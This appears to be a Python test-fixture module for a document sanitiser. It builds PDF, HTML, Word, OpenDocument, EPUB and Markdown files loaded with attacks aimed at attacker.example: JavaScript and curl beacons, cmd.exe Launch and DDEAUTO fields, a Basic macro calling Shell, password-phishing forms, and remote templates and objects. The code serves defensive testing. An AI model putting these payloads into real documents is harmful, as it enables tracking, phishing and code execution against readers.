"""Real documents that act or fetch when opened, for the tests of what a published copy may
do. Each is written by the library people's tools use, then given what an attacker adds:
a beacon that tells attacker.example who opened the file and when, scripts, actions that
launch programs or send forms, remote pictures, templates and objects, and macros.

Everything hostile names ATTACKER, so a test can look for it in every byte of the copy.
"""

import zipfile
from io import BytesIO
from pathlib import Path

import pikepdf

from resguardo.ingest.tests import files, scrub_files

ATTACKER = "attacker.example"
BEACON = f"http://{ATTACKER}/beacon"
KEPT_LINK = "https://www.protectioninternational.org/"
SENTENCE = scrub_files.SENTENCE


def _js(code: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def pdf_beacon(path: Path) -> Path:
    """A PDF that calls home on opening (JavaScript submitForm) and carries every other kind
    of action: document and page additional actions, document-level JavaScript, a program
    to launch, a link into a file elsewhere (GoToR), a form button that posts to another
    host, data imported from elsewhere; and one ordinary web link, which stays."""
    plain = BytesIO()
    scrub_files.make_pdf(plain)  # type: ignore[arg-type]  # pikepdf saves to a stream
    plain.seek(0)
    with pikepdf.open(plain) as pdf:
        root, page = pdf.Root, pdf.pages[0].obj
        root.OpenAction = _js(f'this.submitForm({{cURL: "{BEACON}", cSubmitAs: "HTML"}});')
        root.AA = pikepdf.Dictionary(WC=_js("app.alert('closing');"))
        root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([
            pikepdf.String("beacon"), pdf.make_indirect(_js(f"app.launchURL('{BEACON}');"))])))
        page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(
            S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"),
            Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"),
                                   P=pikepdf.String(f"/c curl {BEACON}"))))
        button = pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn,
            T=pikepdf.String("send"), Rect=[20, 20, 120, 40], Ff=65536,
            A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, Flags=4, F=pikepdf.Dictionary(
                FS=pikepdf.Name.URL, F=pikepdf.String(f"{BEACON}/form")))))
        root.AcroForm = pikepdf.Dictionary(Fields=[button], XFA=pikepdf.String(
            f'<xdp><script>xfa.host.gotoURL("{BEACON}")</script></xdp>'))
        page.Annots = pikepdf.Array([*page.get("/Annots", []), button, *(
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                               Rect=[20, 50 + 20 * n, 120, 65 + 20 * n], A=action)
            for n, action in enumerate([
                pikepdf.Dictionary(S=pikepdf.Name.GoToR,
                                   F=pikepdf.String(f"\\\\{ATTACKER}\\share\\x.pdf"),
                                   D=pikepdf.Array([0, pikepdf.Name.Fit])),
                pikepdf.Dictionary(S=pikepdf.Name.ImportData,
                                   F=pikepdf.String(f"//{ATTACKER}/data.fdf")),
                pikepdf.Dictionary(S=pikepdf.Name.URI,
                                   URI=pikepdf.String(f"javascript:fetch('{BEACON}')")),
                pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(KEPT_LINK)),
            ]))])
        page.Annots.append(pikepdf.Dictionary(  # a 3D model whose scripts run on sight
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/3D"), Rect=[200, 200, 300, 300],
            **{"/3DD": pdf.make_stream(f"app.launchURL('{BEACON}')".encode()),
               "/3DA": pikepdf.Dictionary(A=pikepdf.Name.PO)}))
        # An action kept where no reader looks for one: still emptied.
        root.Hidden = pdf.make_indirect(pikepdf.Dictionary(
            S=pikepdf.Name.Launch, F=pikepdf.String(f"//{ATTACKER}/run.exe")))
        pdf.save(path)
    return path


def html_tracker(path: Path) -> Path:
    """A page that reports its reader, steals a password and runs scripts, around the
    structure a reader needs (headings, a list, a table, a web link, a local picture)."""
    body = "".join(f"<p>{paragraph}</p>\n" for paragraph in scrub_files.paragraphs(2))
    path.write_text(f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Collective protection</title>
<base href="http://{ATTACKER}/">
<meta http-equiv="refresh" content="5; url=http://{ATTACKER}/phish">
<link rel="stylesheet" href="http://{ATTACKER}/style.css">
<link rel="preconnect" href="//{ATTACKER}">
<style>@import url("http://{ATTACKER}/more.css");
@font-face {{ font-family: x; src: url(https://{ATTACKER}/font.woff2); }}</style>
<script src="https://{ATTACKER}/track.js"></script>
<script>new Image().src = "{BEACON}?r=" + document.referrer;</script>
</head><body onload="fetch('{BEACON}')">
<h1>Collective protection</h1>
{body}<ul><li>Map the risks</li><li onclick="steal()">Agree on alerts</li></ul>
<table><tr><th>Risk</th><th>Measure</th></tr><tr><td>Threats</td><td>Alerts</td></tr></table>
<p><a href="{KEPT_LINK}">Protection International</a>
<a href="javascript:fetch('{BEACON}')">Click</a>
<a href="  jav&#x09;ascript:alert(1)">Also click</a></p>
<p><img src="http://{ATTACKER}/pixel.gif" alt="">
<img src="//{ATTACKER}/pixel2.gif" alt="">
<img src="images/map.png" alt="Map" width="40">
<img src="x" onerror="fetch('{BEACON}')" alt="broken">
<span style="background: url(http://{ATTACKER}/bg.png)">Styled</span></p>
<form action="https://{ATTACKER}/login" method="post">
<input name="user"><input type="password" name="password"><button>Sign in</button></form>
<object data="http://{ATTACKER}/x.swf"></object><embed src="http://{ATTACKER}/x.swf">
<iframe srcdoc="&lt;script&gt;fetch('{BEACON}')&lt;/script&gt;">frame text</iframe>
<iframe src="http://{ATTACKER}/frame"></iframe>
<svg><script>fetch('{BEACON}')</script><image href="http://{ATTACKER}/s.png"/></svg>
</body></html>
""", encoding="utf-8")
    return path


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONSHIPS = f"{R}/"
_RELS_NS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'


def _rel(id: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{id}" Type="{RELATIONSHIPS}{kind}" Target="{target}"{mode}/>'


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _edit(parts: dict[str, bytes], name: str, old: str, new: str) -> None:
    text = parts[name].decode()
    assert old in text, (name, old)
    parts[name] = text.replace(old, new, 1).encode()


def _write(parts: dict[str, bytes], path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _field(*instruction: str, result: str) -> str:
    """A complex field, its instruction split over runs as Word writes it; `result` is the
    runs it shows."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
                   for piece in instruction)
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs + '<w:r><w:fldChar '
            f'w:fldCharType="separate"/></w:r>{result}<w:r><w:fldChar w:fldCharType="end"/>'
            "</w:r>")


# A picture field Word updates on opening (what a web page pasted into Word leaves), with a
# page number in what it shows, which stays; and a field that starts a program.
FIELDS = ("<w:p>" + _field(" INCLUDEPICT", f'URE "http://{ATTACKER}/field.png" \\d ',
                           result="<w:r><w:t>Pasted picture</w:t></w:r>"
                           + _field(" PAGE ", result="<w:r><w:t>1</w:t></w:r>")) + "</w:p>"
          '<w:p><w:fldSimple w:instr=\' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \'>'
          "<w:r><w:t>dde</w:t></w:r></w:fldSimple></w:p>")


def docx_remote(path: Path) -> Path:
    """A Word document that fetches on opening: a template from attacker.example, a picture
    linked (not embedded) from there, a subdocument, a linked OLE object, a frame, and
    fields that load a picture or start a program; and an ordinary hyperlink and a page
    number, which stay."""
    import docx

    document = docx.Document()
    document.add_heading("Collective protection", 1)
    for paragraph in scrub_files.paragraphs(2):
        document.add_paragraph(paragraph)
    document.add_picture(BytesIO(scrub_files.png_with_text()))
    document.save(path)
    parts = _parts(path)
    body = "word/document.xml"
    _edit(parts, body, "<a:blip ", f'<a:blip xmlns:r="{R}" r:link="rIdRemote1" ')
    _edit(parts, body, "<w:body>", f'<w:body><w:p><w:hyperlink xmlns:r="{R}" r:id="rIdLink1">'
          '<w:r><w:t>Protection International</w:t></w:r></w:hyperlink></w:p>'
          f'<w:p><w:subDoc xmlns:r="{R}" r:id="rIdSub1"/></w:p>'
          f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
          f'xmlns:r="{R}" Type="Link" ProgID="Excel.Sheet.12" r:id="rIdOle1" '
          'UpdateMode="Always"/></w:object></w:r></w:p>' + FIELDS)
    _edit(parts, "word/_rels/document.xml.rels", "</Relationships>", "".join([
        _rel("rIdRemote1", "image", f"http://{ATTACKER}/pixel.png"),
        _rel("rIdLink1", "hyperlink", KEPT_LINK),
        _rel("rIdSub1", "subDocument", f"http://{ATTACKER}/part.docx"),
        _rel("rIdOle1", "oleObject", f"file://{ATTACKER}/share/sheet.xlsx"),
    ]) + "</Relationships>")
    parts["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships {_RELS_NS}>'
        + _rel("rIdTpl", "attachedTemplate", f"http://{ATTACKER}/template.dotm")
        + "</Relationships>").encode()
    _edit(parts, "word/settings.xml", "<w:zoom",
          f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdTpl"/><w:zoom')
    parts["word/_rels/webSettings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships {_RELS_NS}>'
        + _rel("rIdFrame", "frame", f"http://{ATTACKER}/frame.html")
        + "</Relationships>").encode()
    return _write(parts, path)


MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORD_DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
# What Word writes first in vbaProject.bin, cut to four bytes: not the eight of an OLE file,
# so a check of the file's first bytes takes it for data.
SHORT_OLE = b"\xd0\xcf\x11\xe0" + b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()"


def word_macros(path: Path, main_type: str = MACRO_DOCUMENT,
                part: str = "word/vbaProject.bin") -> Path:
    """A Word document with a macro project (AutoOpen), declared as `main_type`."""
    import docx

    document = docx.Document()
    document.add_paragraph(SENTENCE)
    document.save(path)
    parts = _parts(path)
    _edit(parts, "[Content_Types].xml", WORD_DOCUMENT, main_type)
    parts[part] = SHORT_OLE if part.endswith(".bin") else (
        b'<?xml version="1.0" encoding="UTF-8"?><wne:vbaSuppData xmlns:wne="http://schemas.'
        b'microsoft.com/office/word/2006/wordml"><wne:mcds/></wne:vbaSuppData>')
    _edit(parts, "word/_rels/document.xml.rels", "</Relationships>",
          f'<Relationship Id="rIdVba" Type="{VBA_REL}" Target="{part[5:]}"/></Relationships>')
    if main_type == MACRO_DOCUMENT:
        _edit(parts, "[Content_Types].xml", "</Types>", '<Default Extension="bin" '
              'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    return _write(parts, path)


XLINK = "http://www.w3.org/1999/xlink"


def odt_remote(path: Path) -> Path:
    """An OpenDocument text that fetches and runs on opening: a picture, an object and a
    section loaded from attacker.example, a macro bound to the document's loading, a link
    that runs a macro, a DDE link, a form posting elsewhere, and the Basic library; and an
    ordinary web link, which stays."""
    from odf import draw, office, script, text
    from odf.opendocument import OpenDocumentText

    document = OpenDocumentText()
    listeners = office.EventListeners()
    listeners.addElement(script.EventListener(
        language="ooo:script", eventname="dom:load",
        href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document"))
    document.scripts.addElement(listeners)
    document.text.addElement(text.H(outlinelevel=1, text="Collective protection"))
    for paragraph in scrub_files.paragraphs(2):
        document.text.addElement(text.P(text=paragraph))
    block = text.P(text="Links: ")
    block.addElement(text.A(href=KEPT_LINK, text="Protection International"))
    block.addElement(text.A(href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"
                                 "&location=document", text="Run"))
    frame = draw.Frame(width="3cm", height="2cm", anchortype="paragraph")
    frame.addElement(draw.Image(href=f"http://{ATTACKER}/pixel.png"))
    block.addElement(frame)
    linked = draw.Frame(width="3cm", height="2cm", anchortype="paragraph")
    linked.addElement(draw.Object(href=f"http://{ATTACKER}/object"))
    block.addElement(linked)
    document.text.addElement(block)
    section = text.Section(name="Remote")
    section.addElement(text.SectionSource(href=f"http://{ATTACKER}/section.odt"))
    section.addElement(text.P(text="Cached section text."))
    document.text.addElement(section)
    document.save(str(path))
    parts = _parts(path)
    _edit(parts, "content.xml", "</office:text>",
          '<text:p><text:dde-connection text:connection-name="Beacon">x'
          "</text:dde-connection></text:p></office:text>")
    _edit(parts, "content.xml", "<office:text>", '<office:text><office:forms><form:form '
          f'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xmlns:xlink="{XLINK}" '
          f'form:name="Login" xlink:href="https://{ATTACKER}/login" form:method="post"/>'
          "</office:forms>")
    parts["Basic/Standard/Module1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice'
        b'.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\n'
        b'Shell("curl http://' + ATTACKER.encode() + b'/beacon")\nEnd Sub</script:module>')
    _edit(parts, "META-INF/manifest.xml", "</manifest:manifest>",
          '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" '
          'manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/" '
          'manifest:media-type="application/binary"/></manifest:manifest>')
    return _write({"mimetype": parts.pop("mimetype"), **parts}, path)


def epub_remote(path: Path) -> Path:
    """An EPUB whose page loads a remote picture and scripts and whose stylesheet imports
    a remote font; with a local picture, a web link and the text, which stay."""
    from ebooklib import epub

    book = epub.EpubBook()
    book.set_identifier("resguardo-active-0001")
    book.set_title("Collective protection")
    book.set_language("en")
    book.add_author(scrub_files.PUBLISHER)
    book.add_item(epub.EpubImage(uid="map", file_name="images/map.png",
                                 media_type="image/png", content=scrub_files.png_with_text()))
    style = epub.EpubItem(uid="style", file_name="style.css", media_type="text/css",
                          content=f'@import url("https://{ATTACKER}/font.css");\n'
                                  "p { margin: 0 }".encode())
    tracker = epub.EpubItem(uid="tracker", file_name="track.js",
                            media_type="application/javascript",
                            content=f"fetch('{BEACON}')".encode())
    book.add_item(style)
    book.add_item(tracker)
    chapter = epub.EpubHtml(title="Introduction", file_name="intro.xhtml", lang="en")
    chapter.add_link(href="style.css", rel="stylesheet", type="text/css")
    chapter.add_link(href=f"http://{ATTACKER}/remote.css", rel="stylesheet", type="text/css")
    chapter.content = (
        "<h1>Introduction</h1>"
        + "".join(f"<p>{paragraph}</p>" for paragraph in scrub_files.paragraphs(2))
        + f'<p><a href="{KEPT_LINK}">Protection International</a> '
        f'<a href="javascript:fetch(\'{BEACON}\')">Click</a></p>'
        f'<p><img src="images/map.png" alt="Map"/><img src="http://{ATTACKER}/pixel.png" '
        f'alt=""/><img src="images/map.png" alt="" onload="fetch(\'{BEACON}\')"/></p>'
        f'<script src="track.js"></script><script>fetch("{BEACON}")</script>'
        f'<form action="https://{ATTACKER}/login"><input type="password" name="p"/></form>')
    book.add_item(chapter)
    book.toc = [chapter]
    book.spine = ["nav", chapter]
    book.add_item(epub.EpubNcx())
    book.add_item(epub.EpubNav())
    epub.write_epub(str(path), book)
    return path


# What the ingestion tests already make, hostile or not: each must end refused or inert.
EXISTING: dict[str, files.Factory] = {
    "pdf": files.pdf, "docx": files.docx, "odt": files.odt, "epub": files.epub,
    "html": files.html, "markdown": files.markdown, "text": files.text,
    "zip bomb": files.docx_zip_bomb, "lying sizes": files.docx_lying_sizes,
    "external entity": files.docx_external_entity, "billion laughs": files.docx_billion_laughs,
    "epub entity": files.epub_external_entity, "polyglot": files.jpeg_html_polyglot,
    "truncated pdf": files.truncated_pdf, "pdf kids cycle": files.pdf_kids_cycle,
    "pdf parent cycle": files.pdf_parent_cycle, "pdf xobject cycle": files.pdf_xobject_cycle,
    "pdf prev cycle": files.pdf_prev_cycle, "pdf deep nesting": files.pdf_deep_nesting,
}


MARKDOWN_LINK = "https://example.org/"


def markdown_remote(path: Path) -> Path:
    """A Markdown guide that calls home when a viewer shows it: a remote picture written
    inline and one by reference, raw HTML with a remote picture, a script, a frame, a
    stylesheet that imports from elsewhere and an event handler; and the text, a list, a
    local picture and an ordinary link, which stay."""
    first, second = scrub_files.paragraphs(2)
    path.write_text(f"""# Collective protection

{first}

Our map: ![Map of the risks](http://{ATTACKER}/inline.png "Map") and ![the logo][logo].

<img src="http://{ATTACKER}/raw.png" alt="raw">

<script>fetch("{BEACON}")</script>

<iframe src="http://{ATTACKER}/frame"></iframe>

<style>@import url(http://{ATTACKER}/style.css);</style>

<p onmouseover="fetch('{BEACON}')">Hover text</p>

- Map the risks ![local map](images/map.png)
- Agree on [alerts]({MARKDOWN_LINK})

{second}

[logo]: http://{ATTACKER}/reference.png
""", encoding="utf-8")
    return path


def data_picture(kind: str = "image/jpeg", data: bytes | None = None) -> str:
    """A `data:` address holding a phone photo with GPS (or `data`)."""
    import base64

    data = scrub_files.jpeg_with_gps() if data is None else data
    return f"data:{kind};base64,{base64.b64encode(data).decode()}"


def html_data_picture(path: Path) -> Path:
    """A page with a photo written into it (a data: address) that carries GPS."""
    path.write_text(f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Field photo</title></head><body>
<h1>Field photo</h1><p>{SENTENCE}</p>
<p><img src="{data_picture()}" alt="The river"></p>
</body></html>
""", encoding="utf-8")
    return path


def markdown_data_pictures(path: Path) -> Path:
    """Markdown with a photo written into it (GPS inside), one by reference, and two
    `data:` addresses that are no picture we can clean (an SVG, and text called PNG)."""
    path.write_text(f"""# Field photos

{SENTENCE}

![The river]({data_picture()}) ![The same river][river]

![drawing]({data_picture("image/svg+xml", b"<svg onload='fetch(1)'/>")})
![not a picture]({data_picture("image/png", b"hello")})

[river]: {data_picture()}
""", encoding="utf-8")
    return path
